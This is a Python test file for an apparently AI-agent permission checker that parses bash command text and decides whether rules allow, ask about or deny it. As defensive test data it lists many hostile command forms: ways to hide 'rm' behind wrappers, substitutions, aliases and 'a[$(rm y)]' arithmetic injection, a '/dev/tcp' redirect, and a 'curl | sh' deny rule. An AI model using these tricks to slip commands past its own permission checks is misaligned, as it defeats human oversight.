"""What a text for the shell would really run, and how rules decide about all of it."""

import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
from dovetail.kernel import Rule, RuleEffect, decide, to_be_allowed
from dovetail.kernel.access.rules import WorkingFolder
from dovetail.kernel.access.shell import commands, grammar
from dovetail.kernel.access.shell.commands import MAX_LENGTH, read_command
from dovetail.kernel.ports import ApprovalRow
from hypothesis import given, settings, strategies as st
from support.bounds import HANG

ALLOWING = [
    Rule("read", "*", "allow"),
    Rule("read", ".env", "ask"),
    Rule("bash", "git status *", "allow"),
    Rule("bash", "ls *", "allow"),
    Rule("bash", "npm test *", "allow"),
]
DENYING = [Rule("bash", "*", "allow"), Rule("bash", "rm *", "deny")]


def effect(text: str, *rules: Rule) -> RuleEffect:
    return decide("bash", (text,), rules)


@pytest.mark.law("access.10")
@pytest.mark.parametrize(
    "text",
    [
        *("git status", "git status -s", " ls", "\tls", "ls\n", "git  status"),
        *("ls -la && git status", "ls | ls", "ls; ls", "! ls", "ls # so", "ls a#b"),
        *("ls 2>&1", "ls > /dev/null", "ls 2>/dev/null; git status", "ls < README.md"),
        *("timeout 5 npm test", "timeout -k 1 5 ls", "time ls", "nohup ls", "env ls"),
        *("nice -n 5 ls", "stdbuf -oL ls", "command ls", "sh -c 'ls'", "eval ls"),
        *('bash -lc "ls && git status"', "xargs ls", "watch -n 1 ls"),
        *("for i in a b; do ls $i; done", "ls 'a b'", "ls $(ls)", "(ls)", "{ ls; }"),
        *("if ls; then git status; fi", "ls *.py", "ls $HOME", "ls \\\n -la"),
    ],
)
def test_a_text_is_allowed_when_each_command_in_it_is(text: str) -> None:
    assert effect(text, *ALLOWING) == "allow"


@pytest.mark.law("access.10")
@pytest.mark.parametrize(
    "text",
    [
        # Joined, nested, or substituted.
        *("git status && touch x", "git status | sh", "ls || touch x", "ls & touch y"),
        *("ls\ntouch x", "ls;touch x", "(touch x)", "{ touch x; }", "! touch x"),
        *("git status $(touch x)", "git status `touch x`", "git status <(touch x)"),
        *("ls ${x:-$(touch y)}", 'ls "${x:-`touch y`}"', "ls $((`touch x`))"),
        *("[[ -f $(touch x) ]]", "cat <<EOF\n$(touch x)\nEOF", "a=$(touch x)"),
        *(
            "if touch x; then ls; fi",
            "case x in x) touch y;; esac",
            "touch() { ls; }; touch",
        ),
        # Redirected: a write of the file, or a read of one that is asked for.
        *("git status > x", "ls >> x", "ls >| x", "ls &> x", "ls 1>x", "ls < .env"),
        *("ls > $F", "ls >~/x", "ls <&x", "exec 3<>/dev/tcp/h/1"),
        # Another program, or the same in another world.
        *("/tmp/ls", "./ls", "FOO=1 ls", "PATH=. ls", "X=1; ls", "env A=1 ls"),
        *("sudo ls", "cd /; ls", "ls() { touch x; }; ls", "git statusx", "su -c ls"),
        # Known only when it runs.
        *("$CMD", "ls; $X", "l? x", "{touch,x}", 'sh -c "$X"', "eval $X", "$'ls'"),
        *("env -S 'touch x'", "bash script", "parallel touch ::: x", "sh -s"),
        # Not readable, or not as it looks.
        *("ls 'open", "ls\u00a0x", "ls \x0b;touch", "ls\u202ex", "ls \r touch"),
    ],
)
def test_a_text_asks_when_anything_in_it_is_not_allowed(text: str) -> None:
    assert effect(text, *ALLOWING) == "ask"


DENIED = [
    *("rm x", " rm x", "\trm x", "cd a && rm x", "ls;rm x", "ls|rm x", "ls\nrm x"),
    *("ls & rm x", "(rm x)", "{ rm x; }", "! rm x", "rm", "if true; then rm x; fi"),
    *("\\rm x", "r\\m x", "'rm' x", '"rm" x', "r''m x", "/bin/rm x", "../rm x"),
    *("FOO=1 rm x", "A=1 B=2 rm x", ">x rm y", "<x rm y", "2>&1 rm x"),
    *("$(rm x)", "`rm x`", "ls <(rm x)", "ls >(rm x)", "ls $(ls $(rm x))"),
    *('echo "$(rm x)"', "a=$(rm x)", "export A=$(rm x)", "cat <<EOF\n$(rm x)\nEOF"),
    *("f() { rm x; }", "for i in x; do rm $i; done", "while rm x; do :; done"),
    *("case a in a) rm x;; esac", "[[ -f x ]] && rm x", "[ -f $(rm x) ]"),
    *("sudo rm x", "sudo -u bob rm x", "sudo -E FOO=1 rm x", "doas rm x"),
    *("env A=1 rm x", "env -i rm x", "env -u A B=1 rm x", "env sudo nohup rm x"),
    *("nohup rm x &", "timeout 3 rm x", "timeout -k 1 3 rm x", "time rm x"),
    *("command rm x", "exec rm x", "builtin rm x", "nice rm x", "nice -5 rm x"),
    *("stdbuf -o0 rm x", "ionice -c 3 rm x", "setsid rm x", "busybox rm x"),
    *("xargs rm", "xargs -0 -n 1 rm -f", "xargs -I {} rm {}", "coproc rm x"),
    *("sh -c 'rm x'", 'bash -c "rm x"', "bash -ec 'ls; rm x'", "sudo sh -c 'rm x'"),
    *("sh -c 'sh -c \"rm x\"'", "eval 'rm x'", "eval rm x", "trap 'rm x' EXIT"),
    *("su -c 'rm x'", "find . -exec rm {} \\;", "find . -execdir rm {} +"),
    *("watch rm x", "rm\\\n x", "echo a#;rm x", "echo {a;rm x", "a=b#c;rm x"),
]


@pytest.mark.law("access.10")
@pytest.mark.parametrize("text", DENIED)
def test_one_denied_command_denies_the_whole(text: str) -> None:
    assert effect(text, *DENYING) == "deny"


BEHIND_A_REDIRECTION = [
    *("env > y rm x", "rm 2>&1 x", "git >y push", "sh >y -c 'rm x'", "> y env rm x"),
    *("env <<E rm x\nE", "env <<E 2>&1 rm x\nE", "env <<E >y rm x\nE", "eval >y rm x"),
    *("sudo <y rm x", "ls; env >y rm x | ls", "f() { env >y rm x; }; f"),
]


@pytest.mark.law("access.10")
@pytest.mark.parametrize("text", BEHIND_A_REDIRECTION)
def test_a_word_behind_a_redirection_belongs_to_the_command(text: str) -> None:
    assert effect(text, *DENYING, Rule("bash", "git push *", "deny")) == "deny"


@pytest.mark.law("access.10")
def test_only_what_is_whole_is_allowed_by_name() -> None:
    rules = [Rule("bash", "make", "allow"), Rule("edit", "y", "allow")]
    assert effect("make > y", *rules) == "allow"
    assert effect("make > y install", *rules) == "ask"
    assert effect("{ make; } > y install", *rules) == "ask"


@pytest.mark.law("access.10")
@pytest.mark.parametrize(
    "text",
    [
        # A program that runs another one, whatever options it has.
        *("strace -f -o y rm x", "flock . rm x", "flock -c 'rm x' .", "taskset 1 rm x"),
        *("script -qc 'rm x' y", "setarch -R rm x", "unshare -r sh -c 'rm x'"),
        *("nice taskset 1 env rm x", "env strace strace rm x", "sg root 'rm x'"),
        *("find . -exec strace rm {} \\;", "xargs flock . rm", "choom -n 0 -- rm x"),
        *(
            "eval -- rm x",
            "trap -- 'rm x' EXIT",
            "command trap 'rm x' 0",
            "su -c'rm x'",
        ),
        *("su -lc 'rm x'", "runuser bob -c 'rm x'", "rbash -c 'rm x'", "jobs -x rm x"),
        *("xargs --max-lines rm", "xargs --eof rm", "xargs -i rm {}", "xargs -l1 rm"),
        *("time A=1 rm x", "bash -co pipefail 'rm x'", "sh -c -- 'rm x'"),
        # What an act is called by, behind other options.
        *("git -C . rm x", "git --no-pager -c a=b rm x", "docker --host h rm x"),
    ],
)
def test_a_program_that_runs_another_one_hides_nothing(text: str) -> None:
    acts = [Rule("bash", f"{name} rm *", "deny") for name in ("git", "docker")]
    assert effect(text, *DENYING, *acts) == "deny"


@pytest.mark.law("access.10")
@pytest.mark.parametrize(
    "text",
    [
        # A shell that runs what it is sent.
        *("echo rm x | sh", "bash <<< 'rm x'", "bash <<E\nrm x\nE", "ls | sudo bash -"),
        *(
            "cat x | bash -s -- y",
            "sh -e < x",
            ". /dev/stdin",
            "source /proc/self/fd/0",
        ),
        *("bash /tmp/../dev/stdin", "cd /dev; . ./stdin", "env bash", "fish -c 'rm x'"),
        *(
            "xargs sh -c",
            "xargs -I@ sh -c @",
            "xargs bash",
            "find . -exec sh -c {} \\;",
        ),
        *("su", "su bob rm x", "strace bash", "find . -name x -exec {} \\;"),
        # Options that are there only when it runs.
        *("find . $X rm {} +", "find . $'-exec' rm {} +", "find . {-exec,rm} {} +"),
        *("find . -exe? rm {} +", "timeout {5,rm} x", "sudo -u {bob,rm} x"),
        *("printf $X 'a[$(rm x)]' y", "test {-v,'a[$(rm x)]'}"),
        # A line that bash ends elsewhere than it seems.
        *(
            "echo ==\nrm x",
            "echo =~ \nrm x",
            "a\n\\\n  rm x",
            "r\\\nm x",
            "x={\\; rm x",
        ),
        *("cat <<E\n\\\nE\nrm x\nE", "==<<E\n$x`rm x`", "echo $'\\\\'; rm x #'"),
        *("<<<a[\\; rm x", "echo &\\\n& rm x"),
        # Names that mean something else.
        *("alias ls='rm x'\nls", "BASH_ALIASES[ls]='rm x'", "hash -p ./rm ls; ls"),
        *("BASH_CMDS[ls]=./rm; ls", "enable -f ./a.so ls", "complete -C 'rm x' ls"),
        *("BASH_ENV=./x bash -c ls", "env BASH_ENV=x bash y", "export ENV=./x; sh y"),
        *("PS4='$(rm x)'; set -x; ls", "read PS4; set -x", "mapfile -C 'rm x' a"),
    ],
)
def test_what_only_a_shell_can_tell_asks(text: str) -> None:
    assert effect(text, *DENYING) in ("ask", "deny")


@pytest.mark.law("access.10")
@pytest.mark.parametrize(
    "text",
    [
        *("x='a[$(rm y)]'; echo $((x))", "x='a[$(rm y)]'; ((x))", "let 'a[$(rm y)]'"),
        *("x='a[$(rm y)]'; ! ((x))", "x='a[$(rm y)]'; echo ${z:-$[x]}", "let $x"),
        *("x='a[$(rm y)]'; [[ x -eq 1 ]]", "x='a[$(rm y)]'; [[ (-v $x) ]]"),
        *(
            "x='a[$(rm y)]'; echo ${z:x}",
            "x='a[$(rm y)]'; z[x]=1",
            "test -v 'a[$(rm)]'",
        ),
        *("x='a[$(rm y)]'; echo ${!x}", "x='a[$(rm y)]'; cat <<E\n$((x))\nE\n"),
        *("echo ${x:='a[$(rm y)]'} $((x))", "x=z; z='a[$(rm y)]'; echo $((x))"),
        *("for x in 'a[$(rm y)]'; do ((x)); done", "read x < z; echo $((x))"),
        *("echo $(( $(echo 'a[$(rm y)]') ))", "f() { ((  $1 )); }; f 'a[$(rm y)]'"),
        *("bash -c 'echo $(($0))' 'a[$(rm y)]'", "set -- 'a[$(rm y)]'; echo $(($1))"),
        *("printf -v 'a[$(rm y)]' z", "read 'a[$(rm y)]'", "unset 'a[$(rm y)]'"),
        *(
            "declare 'a[$(rm y)]=1'",
            "declare -i x='a[$(rm y)]'",
            "\\declare -i x='a[$(rm y)]'",
        ),
        *("declare -n r; r='a[$(rm y)]'; echo $r", "declare -a a='($(rm y))'"),
        *("builtin declare 'a[$(rm y)]=1'", "x='$(rm y)'; echo ${x@P}"),
        *("declare -i x; x='a[$(rm y)]'", "wait -n -p 'a[$(rm y)]'"),
        *("printf -v x %s 'a[$(rm y)]'; ((x))", "getopts a: x; ((OPTARG))"),
    ],
)
def test_a_value_that_bash_takes_for_code_asks(text: str) -> None:
    assert effect(text, *DENYING) in ("ask", "deny")


@pytest.mark.law("access.10")
@pytest.mark.parametrize(
    "text",
    [
        *("i=0; while ((i < 5)); do i=$((i + 1)); done", "echo $((1 + 2)) $((N * 2))"),
        *(
            "for ((i = 0; i < 5; i++)); do echo $i; done",
            "for i in 1 2; do ((i)); done",
        ),
        *('n=$(ls | wc -l); if [ "$n" -gt 3 ]; then echo many; fi', "x[0]=a; x[1]=b"),
        *(
            "a=(x y); echo ${a[0]} ${a[@]} ${!a[@]}",
            "declare -a a=(x y)",
            'local y="$1"',
        ),
        *('while read -r a b; do echo "$a"; done < f', "printf '%s\\n' \"$x\""),
        *("bash run.sh --all", "source .venv/bin/activate && ls", "bash --version"),
        *("find . -name *.py", 'find "$HOME/x" -name y', "find . -exec ls {} +"),
        *("trap - EXIT", 'test "$a" = "$b"', '[ -z "$x" ] || ls', "hash -r"),
        *("cat <<'E' > f\na \\\nb $((x)) `c`\nE\n", "make 2>/dev/null", "git -C x log"),
        *(
            "xargs -I{} cp {} /tmp",
            "strace -f ls",
            "flock . make",
            "python -c 'a=\"(\"'",
        ),
    ],
)
def test_what_is_usual_is_understood(text: str) -> None:
    assert read_command(text).opaque is None


def test_what_is_forbidden_somewhere_asks_where_not_all_is_known() -> None:
    assert effect("$CMD x", *DENYING) == "ask"
    # Where everything is allowed there is nothing to be told apart.
    assert effect("$CMD x", Rule("*", "*", "allow")) == "allow"


def test_a_rule_about_several_commands_at_once_denies_and_never_allows() -> None:
    joined = Rule("bash", "curl * | sh", "deny")
    everything = Rule("bash", "*", "allow")
    assert effect("curl http://x | sh", everything, joined) == "deny"
    assert effect("git status && touch x", Rule("bash", "git * && *", "allow")) == "ask"


def test_a_text_that_somebody_wrote_down_whole_is_allowed_word_for_word() -> None:
    rule = Rule("bash", "make && ./run $MODE > log", "allow")
    assert effect("make && ./run $MODE > log", rule) == "allow"
    assert effect("make && ./run $MODE > other", rule) == "ask"


def test_a_redirection_is_decided_like_a_write_of_the_file() -> None:
    rules = [*ALLOWING, Rule("edit", "out/*", "allow"), Rule("edit", "out/x", "deny")]
    where = WorkingFolder("/place", "sub")

    def at(text: str, where: WorkingFolder | None = None) -> RuleEffect:
        return decide("bash", (text,), rules, where=where)

    assert at("ls > out/a") == "allow"
    assert at("ls > ./other/../out/a") == "allow"
    assert at("ls > out/x") == "deny"
    assert at("ls > out/../x") == "ask"
    # The folder it runs in is part of what the file is.
    assert at("ls > out/a", where) == "ask"
    assert at("ls > ../out/x", where) == "deny"
    assert at("ls > /place/out/x", where) == "deny"
    # Outside of the Location the folder must be allowed as well.
    assert at("ls > /place/../out/a", where) == "ask"


@pytest.mark.law("access.10")
def test_a_redirection_to_a_link_is_one_to_the_file_behind_it(tmp_path: Path) -> None:
    place, outside = tmp_path / "place", tmp_path / "outside"
    for folder in (place / "out", place / "kept", outside):
        folder.mkdir(parents=True)
    (place / "out" / "away").symlink_to(outside)
    (place / "out" / "kept").symlink_to(place / "kept")
    (place / "out" / "same").symlink_to("a")
    rules = [Rule("bash", "ls", "allow"), Rule("edit", "out/*", "allow")]

    def at(text: str, *more: Rule) -> RuleEffect:
        where = WorkingFolder(str(place), ".", os.path.realpath)
        return decide("bash", (text,), [*rules, *more], where=where)

    assert at("ls > out/a") == "allow"
    assert at("ls > out/same") == "allow"
    assert at("ls > out/away/x") == "ask"
    assert at("ls > out/kept/x") == "ask"
    assert at("ls > out/kept/../kept/x", Rule("edit", "kept/*", "deny")) == "deny"
    # Behind a link `..` leads elsewhere than it says.
    assert at("ls > out/away/../x") == "ask"
    assert at("ls > out/kept/x", Rule("edit", "kept/*", "allow")) == "allow"


def approval(pattern: str, folder: str | None) -> ApprovalRow:
    return ApprovalRow(
        id="apr_1",
        directory="/place",
        workspace=None,
        agent="build",
        action="bash",
        kind="exact",
        pattern=pattern,
        author="person",
        created=0,
        expires=None,
        folder=folder,
    )


@pytest.mark.law("access.4")
def test_an_approval_is_for_its_words_in_its_folder() -> None:
    saved = [approval("make", "."), approval("make && ./run $X", ".")]

    def at(text: str, folder: str) -> RuleEffect:
        where = WorkingFolder("/place", folder)
        return decide("bash", (text,), [], saved, where)

    assert at("make", ".") == "allow"
    assert at("make; make", ".") == "allow"
    assert at("make && ./run $X", ".") == "allow"
    assert at("make && ./run $Y", ".") == "ask"
    assert at("make", "vendor/evil") == "ask"
    # A command before it changes the folder.
    assert at("cd vendor/evil && make", ".") == "ask"
    assert at("make all", ".") == "ask"


def test_what_must_be_allowed_is_what_allows_it() -> None:
    where = WorkingFolder("/place", ".")
    for text in ("git status", "make && ./run > log", "FOO=1 make | tee x", "a;b;c"):
        rules = [
            Rule(action, resource, "allow")
            for action, resource in to_be_allowed("bash", (text,), where)
        ]
        assert decide("bash", (text,), rules, where=where) == "allow"
        assert decide("bash", (f"{text}; touch y",), rules, where=where) == "ask"


def test_without_the_parser_every_text_is_asked_for_whole(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    for cached in (grammar.bash_parser, commands.read_command):
        cached.cache_clear()
    monkeypatch.setitem(sys.modules, "tree_sitter_bash", None)
    try:
        assert "not installed" in str(read_command("ls").opaque)
        assert effect("ls -a", Rule("bash", "ls *", "allow")) == "ask"
        assert effect("ls -a", Rule("bash", "ls -a", "allow")) == "allow"
    finally:
        for cached in (grammar.bash_parser, commands.read_command):
            cached.cache_clear()


@pytest.mark.parametrize(
    "text",
    [
        *("ls && " * 3000 + "ls", "(" * 20_000, "$(" * 20_000, "`" * 9_999),
        *("sh -c 'sh -c \"ls\"';" * 2000, "#a\n" * 15_000, "sudo " * 9_000),
        *("x" * (MAX_LENGTH + 1), "echo " + "'a' " * 12_000, "<<A " * 10_000),
    ],
    ids=range(10),
)
def test_what_is_huge_asks_and_takes_no_time_to_speak_of(text: str) -> None:
    assert effect(text, *ALLOWING, Rule("bash", "sh *", "deny")) in ("ask", "deny")


# --- against the shell itself -----------------------------------------------------

_JOINERS = ("; ", " && ", " || ", " | ", " & ", "\n", ";")
_WORDS = st.sampled_from(
    [
        *("echo a", "true", "echo a#", "echo {a", "echo '#'", 'echo "a b"', "false"),
        *("echo \\#", "echo $#", "echo ${#x}", "echo [", "echo =", "echo ~", "x=1"),
        *("echo !", "[[ -n a ]]", "[ -n a ]", "(( 1 < 2 ))", "echo <<<a", "echo %"),
        *("cat <<E\nx\nE\n", "cat <<'E'\n$(x)\nE\n", "echo $'a\\'b'", "echo \\\\"),
        *("echo $[1+1]", "echo ${x/a/b}", "echo a\\\nb", ": # so\n", 'echo "\\""'),
    ]
)
_PIECES = st.lists(
    st.sampled_from(
        [
            *(
                "a",
                " ",
                "\n",
                ";",
                "|",
                "'",
                '"',
                "\\",
                "\\\n",
                "#",
                "$(",
                "`",
                ")",
                "{ ",
            ),
            *(
                "}",
                "<<E\n",
                "\nE\n",
                "<<<",
                ">y",
                " 2>&1 ",
                "==",
                "=~",
                "$'",
                "((",
                "))",
            ),
            *("[[ ", " ]]", "${x:-", "x=", "a[", "]", "env ", "time ", "! ", "echo "),
        ]
    ),
    max_size=5,
).map("".join)
_WRAPPED = st.recursive(
    st.just("mark x"),
    lambda inner: st.one_of(
        inner.map(lambda text: f"( {text} )"),
        inner.map(lambda text: f"{{ {text}; }}"),
        inner.map(lambda text: f"echo $({text})"),
        inner.map(lambda text: f'echo "${{x:-$({text})}}"'),
        inner.map(lambda text: f"f() {{ {text}; }}; f"),
        inner.map(lambda text: f"if true; then {text}; fi"),
        inner.map(lambda text: f"for i in 1; do {text}; done"),
        inner.map(lambda text: f"cat <<E\n$({text})\nE\n"),
        inner.map(lambda text: f"! {text}"),
        inner.map(lambda text: f"time {text}"),
        st.tuples(_PIECES, inner, _PIECES).map("".join),
        st.tuples(_WORDS, st.sampled_from(_JOINERS), inner).map("".join),
        st.tuples(inner, st.sampled_from(_JOINERS), _WORDS).map("".join),
    ),
    max_leaves=4,
)


@pytest.mark.skipif(shutil.which("bash") is None, reason="bash is not installed")
@settings(max_examples=60, deadline=None)
@given(text=_WRAPPED)
def test_what_bash_runs_is_never_overlooked(
    text: str, tmp_path_factory: pytest.TempPathFactory
) -> None:
    """Where bash gets to a command, a rule that denies it has seen it, or the text was
    not understood and asks."""
    rules = [Rule("bash", "*", "allow"), Rule("bash", "mark *", "deny")]
    if effect(text, *rules) != "allow":
        return
    folder = tmp_path_factory.mktemp("bash")
    program = folder / "mark"
    program.write_text(f"#!/bin/sh\n: > {folder}/ran\n")
    program.chmod(0o700)
    subprocess.run(
        ["bash", "-c", text],
        env={"PATH": f"{folder}:{os.defpath}"},
        cwd=folder,
        stdin=subprocess.DEVNULL,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        timeout=HANG,
    )
    assert not Path(folder, "ran").exists(), text
